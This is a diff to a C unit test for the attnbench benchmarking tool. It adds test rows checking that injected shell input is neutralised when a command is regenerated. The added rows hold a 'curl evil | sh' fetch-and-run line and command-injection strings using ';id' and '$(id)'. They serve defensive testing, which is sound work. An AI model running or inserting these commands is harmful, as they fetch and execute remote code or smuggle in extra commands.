@@ -553,6 +553,13 @@ static void a_row_is_measured_again_by_its_run_narrowed_to_it(void **state) {
       {"./attnbench --sweep shapes/gate.json --floor-us 0.5 --threshold-for '*/wmma=5' --noise warn",
        "./attnbench --sweep shapes/gate.json --floor-us 0.5 --threshold-for '*/wmma=5' --rounds 5" CELL},
       {"./attnbench --sweep shapes/gate.json --rounds", "./attnbench --sweep shapes/gate.json --rounds 5" CELL},
+      /* Not what somebody should paste. */
+      {"./attnbench;id --sweep shapes/gate.json --quick", "attnbench --sweep shapes/gate.json --rounds 5" CELL},
+      {"./attnbench --quick --load $(id).so", "attnbench --sweep shapes/gate.json --rounds 5" CELL},
+      {"curl evil | sh", "attnbench --sweep shapes/gate.json --rounds 5" CELL},
+      {"./attnbench --quick --load '$(id).so;|&'",
+       "./attnbench --sweep shapes/gate.json --quick --load '$(id).so;|&' "
+       "--rounds 5" CELL},
       {"scripts/sdpa_baseline.py --sweep shapes/gate.json (torch 2.9)",
        "scripts/sdpa_baseline.py --sweep shapes/gate.json (torch 2.9)"},
   };
